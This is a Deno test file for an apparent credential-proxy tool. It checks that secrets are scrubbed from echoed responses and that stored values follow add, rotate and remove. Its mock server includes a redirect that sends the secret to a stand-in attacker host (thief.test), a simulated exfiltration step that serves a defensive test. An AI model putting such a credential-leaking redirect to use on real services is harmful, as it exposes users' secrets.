import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { Api, Home, through } from "./harness.ts";

const SECRET = "sk-real-value-that-must-not-come-back";

/** A server that hands back what it was sent, in many ways. */
function echo(request: Request): Response {
  const { pathname } = new URL(request.url);
  const secret = request.headers.get("authorization")?.replace("Bearer ", "") ?? "none";
  switch (pathname) {
    case "/redirect":
      return new Response(null, { status: 302, headers: { location: `http://thief.test/?k=${secret}` } });
    case "/gzip":
      return new Response(new Uint8Array(gzipSync(`{"k":"${secret}"}`)), {
        headers: { "content-encoding": "gzip" },
      });
    case "/events":
      return new Response(`data: ${secret}\n\ndata: ${btoa(`x${secret}`)}\n\n`, {
        headers: { "content-type": "text/event-stream" },
      });
    case "/unknown":
      return new Response(secret, { headers: { "content-encoding": "made-up" } });
    default:
      return Response.json({ headers: Object.fromEntries(request.headers) }, {
        headers: { "x-you-sent": secret },
      });
  }
}

async function whole(answer: Response): Promise<string> {
  return JSON.stringify([...answer.headers]) + await answer.text();
}

Deno.test("a host that echoes what it gets never shows the secret to the client, and the log tells of it", async () => {
  await using home = await Home.withVault();
  await using api = new Api(echo);
  const { credential } = await home.json("add", "k", "--value", SECRET, "--hosts", api.host);
  const token = credential.wisp_token;
  const { address } = await home.json("serve", "--random-port", "--daemon");
  for (const path of ["/json", "/redirect", "/gzip", "/events"]) {
    const answer = await through(address, `http://${api.host}${path}`, { Authorization: `Bearer ${token}` }, {
      redirect: "manual",
    });
    assert.equal(api.last?.headers.authorization, `Bearer ${SECRET}`, "the host did get the secret");
    const text = await whole(answer);
    assert.ok(!text.includes(SECRET) && !text.includes(btoa(`x${SECRET}`).slice(4, 40)), `${path}: ${text}`);
    assert.ok(text.includes(token), `${path}: ${text}`);
  }
  const undecodable = await through(address, `http://${api.host}/unknown`, {
    Authorization: `Bearer ${token}`,
  });
  assert.equal(undecodable.status, 502);
  assert.equal(undecodable.headers.get("x-wispkey-error"), "undecodable_response");
  await undecodable.body?.cancel();

  const log = await home.json("log", "--last", "100");
  const scrubs = log.entries.filter((row: { event_type: string }) => row.event_type === "ResponseScrubbed");
  assert.ok(scrubs.length >= 1);
  assert.deepEqual([scrubs[0].credential_name, scrubs[0].target_host, scrubs[0].denied], [
    "k",
    api.host,
    false,
  ]);
  assert.ok(!JSON.stringify(log).includes(SECRET));
});

Deno.test("what one request has stored another cannot read, from the moment the credential is known until it is locked", async () => {
  await using home = await Home.withVault();
  let stored = "";
  await using api = new Api((request) => {
    stored = request.headers.get("authorization") ?? stored;
    return new Response(`stored: ${stored}`);
  });
  const { address } = await home.json("serve", "--random-port", "--daemon");
  const read = async () => await (await through(address, `http://${api.host}/`)).text();
  stored = `Bearer ${SECRET}`;
  assert.equal(await read(), `stored: Bearer ${SECRET}`, "it is nobody's secret yet");

  const { credential } = await home.json("add", "k", "--value", SECRET, "--hosts", api.host);
  assert.equal(await read(), `stored: Bearer ${credential.wisp_token}`);
  const rotated = await home.json("rotate", "k");
  assert.equal(await read(), `stored: Bearer ${rotated.wisp_token}`, "the new token takes force at once");
  await home.ok("remove", "k", "--yes");
  assert.equal(await read(), `stored: Bearer ${SECRET}`, "what was removed is not known any more");
});
